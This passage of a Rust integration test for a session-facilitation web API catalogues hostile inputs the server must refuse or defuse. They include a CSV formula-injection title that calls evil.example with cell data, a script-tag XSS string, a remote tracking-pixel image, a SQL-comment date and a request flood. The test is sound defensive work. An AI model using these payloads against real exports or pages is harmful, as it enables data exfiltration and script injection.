        json!({"title": title, "problem": problem, "idea": idea, "owner": owner,
               "department": department, "due": due})
    };
    let ok = || {
        draft(
            json!("Fix it"),
            json!("Ann"),
            json!(MARKETING),
            json!("2030-01-31"),
        )
    };
    let create = |what: &str, action: Value| {
        cx.cmd(
            format!("action: {what}"),
            &cx.fac,
            json!({"type": "create_action", "action": action}),
        )
    };
    let due = |what: &str, due: Value| {
        create(
            &format!("due {what}"),
            draft(json!("Fix it"), json!("Ann"), json!(MARKETING), due),
        )
        .expect(400, "invalid_body")
    };
    let mut with_problem = ok();
    with_problem["problem"] = json!(999);
    let mut foreign_idea = ok();
    foreign_idea["idea"] = json!(other_idea);
    let mut bad_status = ok();
    bad_status["status"] = json!("archived");
    vec![
        create(
            "title one past the limit in 4-byte characters",
            draft(
                json!(four_byte(TITLE_MAX + 1)),
                json!("Ann"),
                json!(MARKETING),
                json!("2030-01-31"),
            ),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", TITLE_MAX + 1)),
        create(
            "owner one past the limit in 4-byte characters",
            draft(
                json!("Fix it"),
                json!(four_byte(OWNER_MAX + 1)),
                json!(MARKETING),
                json!("2030-01-31"),
            ),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", OWNER_MAX + 1)),
        create(
            "empty title",
            draft(
                json!("   "),
                json!("Ann"),
                json!(MARKETING),
                json!("2030-01-31"),
            ),
        )
        .expect(422, "empty"),
        create(
            "invisible owner",
            draft(
                json!("Fix it"),
                json!("\u{200B}\u{2062}"),
                json!(MARKETING),
                json!("2030-01-31"),
            ),
        )
        .expect(422, "empty"),
        create("unknown problem", with_problem).expect(404, "unknown_problem"),
        create("idea of another problem", foreign_idea).expect(404, "unknown_idea"),
        create(
            "unknown department",
            draft(json!("Fix it"), json!("Ann"), json!(9), json!("2030-01-31")),
        )
        .expect(404, "unknown_department"),
        create(
            "negative department",
            draft(
                json!("Fix it"),
                json!("Ann"),
                json!(-2),
                json!("2030-01-31"),
            ),
        )
        .expect(400, "invalid_body"),
        create("unknown status", bad_status).expect(400, "invalid_body"),
        due("30 February", json!("2030-02-30")),
        due("before 2000", json!("1999-12-31")),
        due("in the year 3000", json!("3000-01-01")),
        due("without zero padding", json!("2030-1-1")),
        due("as a number", json!(20_300_101)),
        due("with 4-byte characters", json!("😀-01-01")),
        due("with a time", json!("2030-01-01T00:00:00Z")),
        due("as SQL", json!("2030'; --")),
        cx.cmd(
            "action: update unknown",
            &cx.fac,
            json!({"type": "update_action", "id": 999, "action": ok()}),
        )
        .expect(404, "unknown_action"),
        cx.cmd(
            "action: status of unknown",
            &cx.fac,
            json!({"type": "set_action_status", "id": 999, "status": "done"}),
        )
        .expect(404, "unknown_action"),
        cx.cmd(
            "action: delete unknown",
            &cx.fac,
            json!({"type": "delete_action", "id": 999}),
        )
        .expect(404, "unknown_action"),
        cx.cmd(
            "action: delete id past u32",
            &cx.fac,
            json!({"type": "delete_action", "id": 4_294_967_296_u64}),
        )
        .expect(400, "invalid_body"),
        cx.cmd(
            "action: by a participant",
            &cx.bob,
            json!({"type": "create_action", "action": ok()}),
        )
        .expect(403, "facilitator_only"),
        cx.cmd(
            "action: withdraw an idea after the vote",
            &cx.fac,
            json!({"type": "withdraw_idea", "idea": idea}),
        )
        .expect(409, "wrong_phase"),
    ]
}

const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
const FORMULA_OWNER: &str = "@admin";
const FORMULA_DEPARTMENT: &str = "+Service";

fn accepted_actions(cx: &Ctx, problem: u64, idea: u64) -> Vec<Accepted> {
    let create = |what: &str, title: &str, owner: &str| {
        cx.cmd(
            format!("action: {what}"),
            &cx.fac,
            json!({"type": "create_action", "action": {
                "title": title, "problem": problem, "idea": idea, "owner": owner,
                "department": SERVICE, "due": "2999-12-31"}}),
        )
    };
    vec![
        Accepted::new(
            create("formula title", FORMULA_TITLE, FORMULA_OWNER),
            200,
            Stored::ActionTitle,
            FORMULA_TITLE,
        ),
        Accepted::new(
            create("formula owner", "Call back", FORMULA_OWNER),
            200,
            Stored::ActionOwner,
            FORMULA_OWNER,
        ),
        Accepted::new(
            create("title exactly at the limit in 4-byte characters", &four_byte(TITLE_MAX), "Ann"),
            200,
            Stored::ActionTitle,
            four_byte(TITLE_MAX),
        ),
        Accepted::new(
            create("owner exactly at the limit in 4-byte characters", "Owner", &music(OWNER_MAX)),
            200,
            Stored::ActionOwner,
            music(OWNER_MAX),
        ),
        Accepted::new(
            cx.cmd(
                "rename: department to a formula",
                &cx.fac,
                json!({"type": "rename_department", "department": SERVICE, "name": FORMULA_DEPARTMENT}),
            ),
            200,
            Stored::Department(SERVICE),
            FORMULA_DEPARTMENT,
        ),
        Accepted::new(
            cx.cmd(
                "rename: department name at the limit in 4-byte characters",
                &cx.fac,
                json!({"type": "rename_department", "department": MARKETING,
                       "name": music(DEPARTMENT_NAME_MAX)}),
            ),
            200,
            Stored::Department(MARKETING),
            music(DEPARTMENT_NAME_MAX),
        ),
    ]
}

fn closed_cases(cx: &Ctx) -> Vec<Case> {
    vec![
        cx.cmd(
            "closed: submit a problem",
            &cx.ann,
            json!({"type": "submit_problem", "text": "x"}),
        )
        .expect(409, "session_closed"),
        cx.cmd(
            "closed: create an action",
            &cx.fac,
            json!({"type": "create_action", "action": {
            "title": "x", "problem": 1, "owner": "x", "department": 1, "due": "2030-01-01"}}),
        )
        .expect(409, "session_closed"),
        cx.cmd(
            "closed: start a timer",
            &cx.fac,
            json!({"type": "start_timer", "seconds": 60}),
        )
        .expect(409, "session_closed"),
        cx.cmd(
            "closed: rename a department",
            &cx.fac,
            json!({"type": "rename_department", "department": 1, "name": "Late"}),
        )
        .expect(409, "session_closed"),
        cx.cmd(
            "closed: jump back to the Lobby",
            &cx.fac,
            json!({"type": "set_phase", "phase": "lobby"}),
        )
        .expect(409, "phase_step"),
        Case::post("closed: join", cx.participants())
            .json(json!({"name": "Late Larry", "department": MARKETING}))
            .expect(409, "session_closed"),
    ]
}

#[tokio::test]
async fn hostile_input_catalogue() {
    let mut h = Harness::new().await;
    let fac = h.cx.fac.clone();
    let ann = h.cx.ann.clone();

    // Lobby: everything that does not depend on the phase.
    let preview = preview_cases(&h.cx);
    let misses = preview
        .iter()
        .filter(|c| c.code == "unknown_join_code")
        .count();
    assert!(
        misses < JOIN_CODE_MISS_BURST,
        "stay under the join-code limiter"
    );
    h.refuse_all(preview).await;
    h.refuse_all(session_creation_cases()).await;
    h.accept_all(accepted_sessions()).await;
    let cases = join_cases(&h.cx);
    h.refuse_all(cases).await;
    let cases = accepted_joins(&h.cx);
    h.accept_all(cases).await;
    let (sid, osid, ofac) = (
        h.cx.sid.clone(),
        h.cx.other_sid.clone(),
        h.cx.other_fac.clone(),
    );
    let ann_ticket = h.ticket(&sid, &ann).await;
    let other_ticket = h.ticket(&osid, &ofac).await;
    let cases = credential_cases(&h.cx, &ann_ticket, &other_ticket);
    h.refuse_all(cases).await;
    let cases = command_cases(&h.cx);
    h.refuse_all(cases).await;
    let cases = accepted_commands(&h.cx);
    h.accept_all(cases).await;

    // A retried idempotency key answers with the first result, even when the body
    // now says something else: nothing runs twice.
    h.setup(&fac, json!({"type": "clear_timer"})).await;
    let first = h
        .send(
            &Case::post("idempotency: first", h.cx.commands())
                .bearer(&fac)
                .json(json!({"command": {"type": "start_timer", "seconds": 60},
                             "idempotency_key": "replay-1"})),
        )
        .await;
    assert_eq!(first.status, 200);
    h.accept(Accepted::new(
        Case::post(
            "idempotency: key replayed with another command",
            h.cx.commands(),
        )
        .bearer(&fac)
        .json(
            json!({"command": {"type": "set_phase", "phase": "problems"},
                         "idempotency_key": "replay-1"}),
        ),
        200,
        Stored::Nothing,
        "unchanged",
    ))
    .await;

    // Problems.
    h.phase("problems").await;
    let bodies = {
        let cases = accepted_problems(&h.cx);
        h.accept_all(cases).await
    };
    let ann_problem = id_of(&bodies[0], "problem_submitted", "problem");
    let bob_problem = id_of(&bodies[1], "problem_submitted", "problem");
    let unpicked = id_of(&bodies[2], "problem_submitted", "problem");
    let cases = problem_cases(&h.cx, ann_problem);
    h.refuse_all(cases).await;

    // Pick.
    h.phase("pick").await;
    let cases = pick_cases(&h.cx, ann_problem, bob_problem);
    h.refuse_all(cases).await;
    h.setup(
        &ann,
        json!({"type": "support_problem", "problem": ann_problem, "support": true}),
    )
    .await;
    for problem in [ann_problem, bob_problem] {
        h.setup(
            &fac,
            json!({"type": "confirm_pick", "problem": problem, "picked": true}),
        )
        .await;
    }

    // Ideas.
    h.phase("ideas").await;
    let bodies = {
        let cases = accepted_ideas(&h.cx, ann_problem, bob_problem);
        h.accept_all(cases).await
    };
    let idea_a = id_of(&bodies[0], "idea_submitted", "idea");
    let idea_b = id_of(&bodies[1], "idea_submitted", "idea");
    let idea_c = id_of(&bodies[2], "idea_submitted", "idea");
    let mut cases = idea_cases(&h.cx, ann_problem, bob_problem, unpicked);
    cases.push(
        h.cx.cmd(
            "idea: withdraw someone else's",
            &ann,
            json!({"type": "withdraw_idea", "idea": idea_a}),
        )
        .expect(403, "not_author"),
    );
    h.refuse_all(cases).await;

    // Vote: Ann reaches the cap on A, then spends her whole budget (3 on A, 2 on B).
    h.phase("vote").await;
    for idea in [idea_a, idea_a, idea_a, idea_b] {
        h.setup(&ann, json!({"type": "cast_vote", "idea": idea}))
            .await;
    }
    let cases = vote_cap_cases(&h.cx, idea_a, idea_b);
    h.refuse_all(cases).await;
    h.setup(&ann, json!({"type": "cast_vote", "idea": idea_b}))
        .await;
    let cases = vote_cases(&h.cx, idea_a, idea_b, idea_c);
    h.refuse_all(cases).await;

    // Plan.
    h.phase("plan").await;
    let cases = plan_cases(&h.cx, ann_problem, idea_a, idea_b);
    h.refuse_all(cases).await;
    let cases = accepted_actions(&h.cx, ann_problem, idea_a);
    h.accept_all(cases).await;

    // The CSV export neutralizes every formula-looking cell with a leading apostrophe.
    let csv = h.download("actions.csv").await;
    let rows = parse_csv(csv.trim_start_matches('\u{feff}'));
    let formula_row = rows
        .iter()
        .find(|r| r.get(1).map(String::as_str) == Some(&format!("'{FORMULA_TITLE}")))
        .unwrap_or_else(|| panic!("formula action in the CSV:\n{csv}"));
    assert_eq!(
        formula_row,
        &vec![
            "1".to_owned(),
            format!("'{FORMULA_TITLE}"),
            "open".to_owned(),
            format!("'{FORMULA_OWNER}"),
            format!("'{FORMULA_DEPARTMENT}"),
            "2999-12-31".to_owned(),
            format!("'{FORMULA_PROBLEM}"),
            format!("'{FORMULA_IDEA}"),
        ],
        "{csv}"
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "CSV cell {cell:?} would run as a formula:\n{csv}"
            );
        }
    }
    // The JSON export carries the same text exactly.
    let exported: Value = serde_json::from_str(&h.download("actions.json").await).expect("json");
    assert_eq!(exported["actions"][0]["title"], FORMULA_TITLE);
    assert_eq!(exported["actions"][0]["problem"], FORMULA_PROBLEM);
    assert_eq!(exported["actions"][0]["idea"], FORMULA_IDEA);
    for file in ["actions.md", "actions.ics", "summary.md"] {
        let text = h.download(file).await;
        assert!(!text.is_empty(), "{file}");
    }

    // Closed.
    h.phase("closed").await;
    let cases = closed_cases(&h.cx);
    h.refuse_all(cases).await;

    // A participant hammering the command endpoint is throttled with a typed 429,
    // and nothing changes on the way.
    let (olga, other_commands) = (h.cx.olga.clone(), h.cx.other_commands());
    let before = h.probe().await;
    let mut throttled = None;
    // Bursts of concurrent requests outrun the refill however slow the machine is.
    for _ in 0..5 {
        let url = h.app.url(&other_commands);
        let burst = (0..150).map(|_| {
            h.app
                .client
                .post(&url)
                .bearer_auth(&olga)
                .json(&json!({"command": {"type": "start_timer", "seconds": 60}}))
                .send()
        });
        for res in futures_util::future::join_all(burst).await {
            let res = res.expect("flood request answered");
            let status = res.status().as_u16();
            h.statuses.push(("POST flood".into(), status));
            match status {
                403 => {}
                429 => {
                    throttled = Some(Response {
                        status,
                        headers: res.headers().clone(),
                        body: res.bytes().await.map(|b| b.to_vec()).unwrap_or_default(),
                    })
                }
                other => panic!("flood: unexpected {other}"),
            }
        }
        if throttled.is_some() {
            break;
        }
    }
    let res = throttled.expect("a flood of commands is throttled");
    let err: ErrorBody = serde_json::from_slice(&res.body).expect("typed 429");
    assert_eq!(err.error.code.as_str(), "too_many_commands");
    assert!(res.headers.contains_key("retry-after"));
    assert_eq!(before, h.probe().await, "the flood changed nothing");
    h.refused += 1;

    // The verdict.
    let server_errors: Vec<&(String, u16)> = h.statuses.iter().filter(|(_, s)| *s >= 500).collect();
    println!(
        "\n{} refused + {} accepted = {} catalogue cases; {} requests in all, {} answered 5xx",
        h.refused,
        h.accepted,
        h.refused + h.accepted,
        h.statuses.len(),
        server_errors.len()
    );
    assert!(server_errors.is_empty(), "5xx answers: {server_errors:#?}");
    assert!(
        h.failures.is_empty(),
        "{} of {} cases went wrong:\n{}",
        h.failures.len(),
        h.refused + h.accepted,
        h.failures.join("\n")
    );
    assert!(h.refused + h.accepted >= 60);
}

/// Inputs that once got an untyped or too-lenient answer (untyped 400/405, unknown
/// fields on field-less commands, invisible names, look-alike departments, raw
/// Markdown in exports); each case asserts the behaviour the server now has.
#[tokio::test]
async fn closed_gaps() {
    let mut h = Harness::new().await;
    let join = |what: &str, name: &str, cx: &Ctx| {
        Case::post(format!("join: name of only {what}"), cx.participants())
            .json(json!({"name": name, "department": MARKETING}))
            .expect(422, "empty")
    };
    let create = |what: &str, departments: [&str; 2]| {
        Case::post(format!("create: departments {what}"), "/api/sessions")
            .json(json!({"title": "t", "departments": departments}))
            .expect(422, "duplicate_department")
    };
    let cx = &h.cx;
    let cases = vec![
        // Handlers use axum's own `Path`, whose rejection is a plain-text 400, not the
        // typed body `From<PathRejection> for ApiError` would give.
        Case::get(
            "preview: invalid UTF-8 in the code",
            "/api/join/%FF%FE%FD%FC%FB%FA",
        )
        .expect(404, "not_found"),
        Case::get("snapshot: invalid UTF-8 in the id", "/api/sessions/%FF%FE")
            .bearer(&cx.fac)
            .expect(404, "not_found"),
        Case::post(
            "command: invalid UTF-8 in the id",
            "/api/sessions/%C3%28/commands",
        )
        .bearer(&cx.fac)
        .json(json!({"command": {"type": "clear_timer"}}))
        .expect(404, "not_found"),
        Case::get(
            "export: invalid UTF-8 in the file name",
            cx.export("%FF.csv"),
        )
        .bearer(&cx.fac)
        .expect(404, "not_found"),
        // A wrong method on a known path is axum's bare 405 with an empty body.
        Case::new("DELETE a session", Method::DELETE, cx.session())
            .bearer(&cx.fac)
            .expect(405, "method_not_allowed"),
        Case::get("GET the create endpoint", "/api/sessions").expect(405, "method_not_allowed"),
        Case::new("PUT a command", Method::PUT, cx.commands())
            .bearer(&cx.fac)
            .json(json!({"command": {"type": "clear_timer"}}))
            .expect(405, "method_not_allowed"),
        // `deny_unknown_fields` does not reach unit variants of the tagged command enum.
        cx.cmd(
            "command: unknown field on a unit command",
            &cx.fac,
            json!({"type": "clear_timer", "as": "facilitator"}),
        )
        .expect(400, "invalid_body"),
        // Names that render as nothing: `clean` keeps these invisible characters.
        join("a zero-width joiner", "\u{200D}", cx),
        join("a zero-width non-joiner", "\u{200C}", cx),
        join("direction marks", "\u{200E}\u{200F}\u{061C}", cx),
        join("soft hyphens", "\u{AD}\u{AD}", cx),
        join("a combining grapheme joiner", "\u{34F}", cx),
        join("Hangul fillers", "\u{3164}\u{115F}\u{FFA0}", cx),
        join("a braille blank", "\u{2800}", cx),
        join("a Mongolian vowel separator", "\u{180E}", cx),
        join("tag characters", "\u{E0041}\u{E0042}", cx),
        // Department names that look the same but compare different.
        create("in NFC and NFD", ["Caf\u{e9}", "Cafe\u{301}"]),
        create(
            "differing by a zero-width joiner",
            ["Sales", "Sales\u{200D}"],
        ),
        create("differing by a soft hyphen", ["Sales", "Sa\u{AD}les"]),
        create("differing by a direction mark", ["Sales", "Sales\u{200E}"]),
    ];
    h.refuse_all(cases).await;

    // Markdown exports carry problem text as is: raw HTML and remote images run in
    // Markdown viewers that render HTML.
    let ann = h.cx.ann.clone();
    h.phase("problems").await;
    h.setup(
        &ann,
        json!({"type": "submit_problem", "text": "<script>alert(1)</script>"}),
    )
    .await;
    h.setup(
        &ann,
        json!({"type": "submit_problem", "text": "![](http://evil.example/pixel.png)"}),
    )
    .await;
    let summary = h.download("summary.md").await;
    if summary.contains("<script>") || summary.contains("![](http") {
        h.failures.push(format!(
            "summary.md renders problem text as Markdown/HTML:\n{summary}"
        ));
    }

    let server_errors: Vec<&(String, u16)> = h.statuses.iter().filter(|(_, s)| *s >= 500).collect();
    assert!(server_errors.is_empty(), "5xx answers: {server_errors:#?}");
    assert!(
        h.failures.is_empty(),
        "{} known gaps still open:\n{}",
        h.failures.len(),
        h.failures.join("\n")
    );
}
